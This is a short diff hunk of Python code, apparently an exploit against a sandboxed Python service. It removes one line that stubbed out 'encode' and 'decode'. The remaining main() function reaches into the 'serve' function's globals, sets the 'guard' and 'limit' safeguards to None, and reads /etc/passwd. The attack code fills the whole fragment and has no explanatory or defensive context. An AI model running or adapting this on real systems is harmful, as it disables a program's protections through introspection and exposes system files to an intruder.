@@ -25,7 +25,6 @@ def right(lam):
 def main():
     serve = sys.modules["__main__"].serve
     names = serve.__globals__
-    names["encode"] = names["decode"] = lambda *a: 1
     names["guard"] = names["limit"] = None
     return open("/etc/passwd").read()
 
